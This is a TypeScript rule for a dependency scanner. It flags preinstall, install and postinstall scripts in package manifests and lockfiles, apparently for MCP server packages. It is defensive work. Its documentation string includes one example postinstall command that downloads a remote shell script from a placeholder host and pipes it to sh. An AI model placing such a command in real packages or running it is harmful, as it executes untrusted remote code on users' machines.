// DEP-004: code that runs when a package is installed — the scanned package's own lifecycle scripts,
// or dependencies a lockfile marks as having them. Install scripts run with the installing user's
// rights before anyone has used, let alone reviewed, the package.
import { toEvidence } from '../../evidence.js';
import { defineRule } from '../../types.js';
import { locationOf, packageKey } from './context.js';

export const installScript = defineRule({
  meta: {
    id: 'DEP-004',
    title: 'Install-time script',
    severity: 'medium',
    confidence: 'confirmed',
    owasp_category: 'LLM03',
    owasp_mcp: 'MCP04',
    cwe: 'CWE-829',
    hipaa_mapping: null,
    description:
      'Code runs automatically when the package is installed (a `preinstall`, `install` or ' +
      '`postinstall` script). This is the usual way a malicious or hijacked package attacks: it needs ' +
      'no one to run the program.',
    remediation:
      'Remove lifecycle scripts from MCP server packages, or make them do nothing but build from the ' +
      'package’s own sources. Install dependencies with `npm ci --ignore-scripts` (or pnpm’s ' +
      '`onlyBuiltDependencies` allow-list) and allow scripts only for packages you have reviewed.',
    monitor_candidate: true,
    docs:
      'In package.json, each `preinstall`, `install` and `postinstall` script is reported (medium) with ' +
      'its command. In package-lock.json (`hasInstallScript`) and pnpm-lock.yaml (`requiresBuild`), each ' +
      'dependency that runs a script on install is reported at low severity and `possible` confidence — ' +
      'native modules have legitimate build steps, but every one is code that runs at install. ' +
      'Example: `"postinstall": "curl -s https://example.test/p.sh | sh"` is reported as ' +
      '`postinstall: curl -s https://example.test/p.sh | sh`.',
  },
  artifact: 'dependency-manifest',
  check(manifest, context) {
    for (const script of manifest.installScripts ?? []) {
      context.report({
        evidence: `${script.name}: ${script.command}`,
        title: `Install-time script (${script.name})`,
        location: { file: manifest.file, line: script.line },
      });
    }
    if (!manifest.lockfile) return;
    const seen = new Set<string>();
    for (const dependency of manifest.dependencies) {
      if (!dependency.hasInstallScript) continue;
      const key = packageKey(manifest.ecosystem, dependency.name);
      if (seen.has(key)) continue;
      seen.add(key);
      context.report({
        evidence: `${dependency.name}${dependency.version ? `@${dependency.version}` : ''} runs a script on install`,
        title: `Dependency runs an install script: ${toEvidence(dependency.name, 100)}`,
        severity: 'low',
        confidence: 'possible',
        location: locationOf(manifest, dependency),
      });
    }
  },
});
